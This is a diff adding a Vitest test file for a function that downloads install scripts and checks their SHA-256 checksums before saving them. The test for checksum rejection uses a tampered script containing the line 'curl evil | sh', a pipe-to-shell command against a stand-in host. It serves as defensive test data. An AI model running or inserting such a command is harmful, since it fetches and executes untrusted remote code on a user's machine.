@@ -0,0 +1,41 @@
+/**
+ * Tests for Install Script
+ */
+
+import { createHash } from 'crypto';
+import { promises as fs } from 'fs';
+import { describe, expect, it } from 'vitest';
+import { downloadInstallScript, InstallScriptError, removeInstallScript } from '../install-script';
+
+const body = new TextEncoder().encode('#!/bin/sh\necho installed\n');
+const sha256 = createHash('sha256').update(body).digest('hex');
+const url = 'https://example.com/install.sh';
+
+describe('downloadInstallScript', () => {
+  it('should save a script whose checksum matches', async () => {
+    const scriptPath = await downloadInstallScript({ url, sha256: sha256.toUpperCase() }, 'linux', async () => body);
+
+    expect(scriptPath).toMatch(/install\.sh$/);
+    expect(await fs.readFile(scriptPath, 'utf-8')).toBe('#!/bin/sh\necho installed\n');
+
+    await removeInstallScript(scriptPath);
+    await expect(fs.access(scriptPath)).rejects.toThrow();
+  });
+
+  it('should refuse a script whose checksum does not match', async () => {
+    const tampered = new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n');
+
+    const download = downloadInstallScript({ url, sha256 }, 'linux', async () => tampered);
+
+    await expect(download).rejects.toBeInstanceOf(InstallScriptError);
+    await expect(download).rejects.toThrow(`Checksum mismatch for ${url}: expected ${sha256}`);
+  });
+
+  it('should report download failures', async () => {
+    const download = downloadInstallScript({ url, sha256 }, 'win32', async () => {
+      throw new Error('HTTP 404 Not Found');
+    });
+
+    await expect(download).rejects.toThrow(`Failed to download ${url}: HTTP 404 Not Found`);
+  });
+});